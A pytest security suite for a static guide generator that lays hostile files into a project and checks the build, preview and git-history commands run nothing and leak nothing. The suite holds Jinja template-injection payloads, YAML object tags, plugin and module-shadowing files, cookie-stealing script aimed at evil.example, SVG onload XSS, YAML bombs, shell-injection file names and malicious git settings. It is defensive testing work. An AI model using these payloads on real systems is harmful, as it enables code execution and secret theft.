"""Somebody else's project: it is data, so nothing of it runs, and nothing but its own is published.

Each case is a set of files that a stranger lays into a small guide. Whatever they hold tries to
make the file `canary`, or to publish a secret: a variable of the environment, a line of a file
beside the project. Each is built in its own folder, as somebody does who has just unpacked it.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest
from markupsafe import Markup

from generator.__main__ import main
from generator.render.html import markdown
from generator.source.markdown import read_markdown
from generator.source.project import LARGEST_PAGE
from tests import forked
from tests.conftest import ROOT, SMALL, TODAY

pytestmark = pytest.mark.slow  # every defence is tried from outside, in processes of their own

SECRET = "hollyhock-4711"
ONE = "  - {id: a, name: A, area: town, offers: [naloxone], website: https://example.org}\n"
PAGE = "---\ntitle: More\ndescription: More.\n---\n\n"
RUN = "import pathlib; pathlib.Path('{canary}').touch()\n"
TAG = "!!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path ['{canary}']]"
ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}",
    "{{ self.__init__.__globals__.__builtins__.open('{secret}').read() }}",
    "{{ urls.posixpath.os.environ }}",
    "{% include '{secret}' %}",
    "<script>fetch('//evil.example')</script>",
)
CASES: dict[str, dict[str, str]] = {
    # What stands in each file; {canary} and {secret} are the paths of these files. "+" adds.
    "tag": {"mkdocs.yml": f"+copyright: {TAG}\n"},
    "environment": {"mkdocs.yml": "+site_author: !ENV GUIDE_SECRET\n"},
    "environment-in-extra": {"mkdocs.yml": "+copyright: !ENV [NO, GUIDE_SECRET]\n"},
    "inherit": {"mkdocs.yml": "+INHERIT: parent.yml\n", "parent.yml": f"copyright: {TAG}\n"},
    "inherit-outside": {"mkdocs.yml": "+INHERIT: {secret}\n"},
    "hooks": {"mkdocs.yml": "+hooks: [hook.py]\n", "hook.py": RUN},
    "plugins": {"mkdocs.yml": "+plugins: [{search: {}}, evil]\n", "evil.py": RUN},
    "theme": {
        "mkdocs.yml": "+watch: [/]\nextra_templates: [x.html]\n",
        "docs/x.html": ESCAPES[0],
        "theme/main.html": ESCAPES[1],
    },
    "extensions": {
        "mkdocs.yml": "+mdx_configs: {pymdownx.snippets: {base_path: [/]}}\n",
        "docs/en/more.md": PAGE
        + '--8<-- "{secret}"\n\n-8<-\n{secret}\n-8<-\n\n{% include "{secret}" %}\n',
    },
    "page-tag": {"docs/en/more.md": f"---\ntitle: {TAG}\ndescription: More.\n---\n\nText.\n"},
    "page-template": {"docs/en/more.md": PAGE + "\n\n".join(ESCAPES[:5]) + "\n"},
    "list-tag": {"resources.yaml": f"+  - {TAG}\n"},
    "list-template": {
        "resources.yaml": "+  - {{id: b, name: \"{{{{ ''.__class__ }}}}\", area: town,"
        ' offers: [naloxone], website: "https://example.org",'
        ' description: \'{{% include "{secret}" %}} #read("{secret}")\'}}\n'
    },
    "strings-tag": {"docs/en/glossary.yaml": f"words: {TAG}\n"},
    "modules": {f"{name}.py": RUN for name in ("mkdocs", "yaml", "generator", "typst", "jinja2")},
    "site-customize": {"sitecustomize.py": RUN, "usercustomize.py": RUN, "conftest.py": RUN},
    "sheets": {
        "mkdocs.yml": "+{sheets}",
        "resources.yaml": '+  - {{id: b, name: "#read(\\"{secret}\\")", area: town,'
        " offers: [naloxone], website: https://example.org}}\n",
    },
    **{
        f"template-{number}": {"overrides/shell.html": text}
        for number, text in enumerate(ESCAPES, 1)
    },
    "script": {"overrides/age.js": "fetch('//evil.example/' + document.cookie)\n"},
    "style": {"overrides/style/base.css": "@import '//evil.example';\n"},
    "drawing": {"overrides/drawings/call.svg": "<svg onload=alert(1) viewBox='0 0 1 1'></svg>"},
    "sheet-template": {"overrides/sheets/poster.typ": '#read("{secret}")'},
    "deep": {"docs/en/glossary.yaml": "a: " + "[" * 50_000},
    "laughs": {"sources.yaml": "a: &a [x]\n" + "".join(f"b{n}: [*a, *a]\n" for n in range(400))},
    "merge": {"vocabulary.yaml": "a: &a {x: 1}\nb: {<<: [*a, *a]}\n"},
    "long-line": {"resources.yaml": "+  - {id: b, name: " + "x" * 1_000_000 + "}\n"},
    "odd-names": {
        f"docs/en/{name}": PAGE
        for name in (
            "$(touch {canary_name}).md",
            "`id`.md",
            "-rf.md",
            "a;b.md",
            "a\nb.md",
            "%2e.md",
        )
    },
}
SHEETS = "# no more keys\n"


def laid_into(folder: Path, files: dict[str, str], outside: Path) -> None:
    """Lay a stranger's files into a project."""
    names = {
        "{canary}": str(outside / "canary"), "{secret}": str(outside / "secret"),
        "{canary_name}": "canary", "{sheets}": SHEETS, "{{{{": "{{", "}}}}": "}}",
    }  # fmt: skip
    for name, text in files.items():
        for hole, value in names.items():
            name, text = name.replace(hole, value), text.replace(hole, value)
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        more = text.startswith("+")
        before = path.read_text("utf-8") if more else ""
        path.write_text(before + text.removeprefix("+"), encoding="utf-8")


def started(folder: Path, *words: str) -> subprocess.Popen[str]:
    """Start a command in a folder, as `guide.py` does."""
    return subprocess.Popen(
        [sys.executable, "-P", "-m", "generator", *words],
        cwd=folder, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "GUIDE_SECRET": SECRET},
    )  # fmt: skip


class Ran(NamedTuple):
    """What a command said, how it ended, and what it used: seconds of a processor, kilobytes."""

    said: str
    code: int
    seconds: float
    memory: int


MEASURED = """
import resource, subprocess, sys
code = subprocess.call([sys.executable, *sys.argv[1:]], timeout=60)
used = resource.getrusage(resource.RUSAGE_CHILDREN)
print(used.ru_utime, used.ru_maxrss)
sys.exit(code)
"""
"""A process begins with the most memory that its parent ever had; a small parent has little."""


def ran(case: str, folder: Path, *words: str) -> Ran:
    """Run a command in the folder of a case to its end; a fork would see none of its modules."""
    if not any(name.endswith(".py") for name in CASES[case]):
        fork = forked.run(*words, cwd=folder, env={**os.environ, "GUIDE_SECRET": SECRET})
        return Ran(fork.stdout + fork.stderr, fork.returncode, fork.seconds, fork.memory)
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, "-P", "-m", "generator", *words],
        cwd=folder, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "GUIDE_SECRET": SECRET},
    )  # fmt: skip
    *said, last = done.stdout.rstrip("\n").split("\n")
    seconds, memory = last.split()
    return Ran("\n".join(said), done.returncode, float(seconds), int(memory))


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """The folder around the project, with a secret in it."""
    (tmp_path / "secret").write_text(f"{SECRET}: yes\n", encoding="utf-8")
    return tmp_path


def told(outside: Path) -> list[str]:
    """Return the files in which the secret was published, and the canary."""
    passwd = Path("/etc/passwd").read_bytes().split(b"\n")[0]
    files = [path for path in (outside / "out").rglob("*") if path.is_file()]
    wanted = (SECRET.encode(), passwd)
    found = [str(path) for path in files if any(word in path.read_bytes() for word in wanted)]
    return found + [str(path) for path in outside.rglob("canary*")]


@pytest.mark.parametrize("case", CASES)
def test_nothing_of_a_strangers_project_runs_or_leaks(
    case: str, make_project: Callable[..., Path], outside: Path
) -> None:
    folder = make_project(SMALL + ONE)
    laid_into(folder, CASES[case], outside)

    done = ran(case, folder, "build", "--project", ".", "--out", str(outside / "out"))

    assert done.code in {0, 1}, done.said
    assert "Traceback" not in done.said
    assert SECRET not in done.said
    assert told(outside) == []
    assert done.seconds < 5  # a small guide takes about one
    assert done.memory < 500_000
    for page in (outside / "out").rglob("*.html"):
        assert "evil.example" not in page.read_text("utf-8")


SIGNS = {
    "open citations": "[^", "pictures": "![", "links": "[a](", "headings of one name": "## a\n\n",
    "underlined headings": "a\n=\n", "one paragraph": "a\n", "stars": "*_", "rows": "| a | b |\n",
    "brackets": "[", "tags": "<", "backticks": "a`", "quotes": ">", "blanks": " ",
    "boxes": "!!! a\n",
}  # fmt: skip


@pytest.mark.parametrize("signs", SIGNS)
def test_a_page_of_nothing_but_signs_is_read_in_time(signs: str) -> None:
    head = "| a | b |\n|---|---|\n" if signs == "rows" else ""
    body = head + SIGNS[signs] * (LARGEST_PAGE // 2 // len(SIGNS[signs].encode()))
    began = time.process_time()

    page, _ = read_markdown(f"{PAGE}{body}\n", "docs/en/x.md", "x")
    markdown(page, lambda name, words: Markup(""))

    assert time.process_time() - began < 2.5  # half of the longest page there may be


def test_a_page_that_is_too_long_is_told_and_not_read(
    make_project: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = make_project(SMALL + ONE)
    laid_into(folder, {"docs/en/more.md": PAGE + "[^" * LARGEST_PAGE}, folder.parent)

    assert main(["check", "--project", str(folder)]) == 1

    says = (
        "docs/en/more.md:1:1: The file is larger than 100 KB. Split it into two pages. [file-size]"
    )
    assert says in capsys.readouterr().out


REFUSED = {
    **dict.fromkeys(("tag", "environment", "environment-in-extra", "page-tag", "list-tag",
        "strings-tag"), "no-tags"),
    **dict.fromkeys((*(f"template-{n}" for n in range(1, 7)), "script", "style", "drawing",
        "sheet-template"), "own-templates"),
    "odd-names": "page-name",
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_what_would_be_code_is_told_in_a_sentence(
    case: str,
    make_project: Callable[..., Path],
    outside: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = make_project(SMALL + ONE)
    laid_into(folder, CASES[case], outside)

    assert main(["check", "--project", str(folder), "--today", TODAY.isoformat()]) == 1

    assert f"[{REFUSED[case]}]" in capsys.readouterr().out


def test_own_templates_are_used_once_they_are_trusted(
    make_project: Callable[..., Path], outside: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, out = make_project(SMALL + ONE), str(outside / "out")
    shell = (ROOT / "overrides" / "shell.html").read_text("utf-8")
    laid_into(folder, {"overrides/shell.html": shell.replace("<footer>", "<footer>Ours ")}, outside)

    assert main(["build", "--project", str(folder), "--out", out]) == 1
    assert "--trust-templates" in capsys.readouterr().err
    assert main(["build", "--project", str(folder), "--out", out, "--trust-templates"]) == 0
    assert "<footer>Ours" in (outside / "out" / "en" / "about.html").read_text("utf-8")


@pytest.mark.parametrize("name", ["shell.html", "age.js", "drawings/call.svg", "fonts/covered.txt"])
def test_a_copy_of_the_programs_own_templates_needs_no_trust(
    name: str, make_project: Callable[..., Path]
) -> None:
    folder = make_project(SMALL + ONE)
    copy = folder / "overrides" / name
    copy.parent.mkdir(parents=True)
    copy.write_bytes((ROOT / "overrides" / name).read_bytes())
    (folder / "overrides" / ".DS_Store").write_bytes(b"what an editor leaves")

    assert main(["check", "--project", str(folder)]) == 0


SERVED = {
    "mkdocs.yml": "+hooks: [hook.py]\nINHERIT: parent.yml\nplugins: [evil]\nwatch: [/proc]\n"
    "extra_templates: [x.html]\nmdx_configs: {toc: {permalink: yes}}\n",
    "parent.yml": f"copyright: {TAG}\n",
    "docs/x.html": ESCAPES[1],
    "docs/en/main.py": RUN,
    **dict.fromkeys(("hook.py", "evil.py", "mkdocs.py", "yaml.py", "generator.py"), RUN),
}


def test_the_preview_of_a_strangers_project_runs_nothing_of_it(
    make_project: Callable[..., Path], outside: Path
) -> None:
    folder = make_project(SMALL + ONE)
    laid_into(folder, SERVED, outside)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    process = started(folder, "serve", "--project", ".", "--address", f"127.0.0.1:{port}")
    try:
        page = answer_of(f"http://127.0.0.1:{port}/en/index.html", process)
    finally:
        process.terminate()
        said, _ = process.communicate(timeout=20)

    assert "naloxone" in page.lower(), said
    assert SECRET not in said + page
    assert told(outside) == []


def answer_of(address: str, process: subprocess.Popen[str]) -> str:
    """Return a page as soon as the server answers, or "" when it has ended."""
    for _ in range(300):
        if process.poll() is not None:
            return ""
        try:
            with urllib.request.urlopen(address, timeout=5) as answer:
                return str(answer.read().decode())
        except (urllib.error.URLError, ConnectionError):
            time.sleep(0.1)
    return ""


TRANSPORTS = ("ssh://x/y", "ext::{script}", "git://x/y", "file:///x", "http://127.0.0.1:9/x")


@pytest.mark.parametrize("address", TRANSPORTS)
def test_the_settings_of_a_strangers_repository_start_no_program(
    address: str, make_project: Callable[..., Path], outside: Path
) -> None:
    folder = make_project(SMALL + ONE)
    script = outside / "script"
    script.write_text(f"#!/bin/sh\ntouch {outside}/canary\n", "utf-8")
    script.chmod(0o755)
    git(folder, "init", "-q")
    git(folder, "add", "resources.yaml")
    git(folder, "commit", "-qm", "First")
    blob = git(folder, "rev-parse", "HEAD:resources.yaml").strip()
    (folder / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    for key, value in {
        "extensions.partialClone": "origin", "core.repositoryformatversion": "1",
        "remote.origin.promisor": "true", "remote.origin.url": address.format(script=script),
        "remote.origin.uploadpack": str(script), "core.sshCommand": str(script),
        "core.gitProxy": str(script), "core.fsmonitor": str(script), "core.pager": str(script),
        "protocol.ext.allow": "always", "protocol.ssh.allow": "always", "core.askPass": str(script),
    }.items():  # fmt: skip
        git(folder, "config", key, value)

    process = started(folder, "changes", "HEAD", "--project", ".")
    said, _ = process.communicate(timeout=60)

    assert process.returncode == 1
    assert "git can't find that version" in said
    assert told(outside) == []


def git(folder: Path, *words: str) -> str:
    """Run git in a folder, as somebody without a name."""
    known = ["-c", "user.name=x", "-c", "user.email=x@example.org", "-c", "core.fsmonitor=false"]
    done = subprocess.run(
        ["git", "-C", str(folder), *known, *words], capture_output=True, text=True, check=True
    )
    return done.stdout
